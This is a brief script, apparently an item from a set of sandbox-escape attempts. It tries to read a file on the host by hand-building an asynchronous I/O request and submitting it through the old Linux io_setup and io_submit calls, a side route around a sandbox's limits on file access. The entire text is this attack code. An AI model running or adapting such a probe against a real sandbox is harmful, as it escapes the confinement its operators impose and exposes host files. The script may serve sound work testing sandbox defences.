# Tries: a file of the host by io_setup and io_submit, the old asynchronous interface.
# Origin: own idea; io_uring's forgotten elder.

import struct

context = native.buffer(8)
found = [native.call("io_setup", 1, context)]
file = native.call("openat", -100, input["file"], 0, 0)
into = native.buffer(200)
block = native.address(struct.pack("QIIHhIQQqQII", 0, 0, 0, 0, 0, file & 0xFFFFFFFF, native.address(into), 200, 0, 0, 0, 0))
number = struct.unpack("Q", context.raw)[0]
found.append(native.call("io_submit", number, 1, struct.pack("Q", block)))
[*found, into.value]
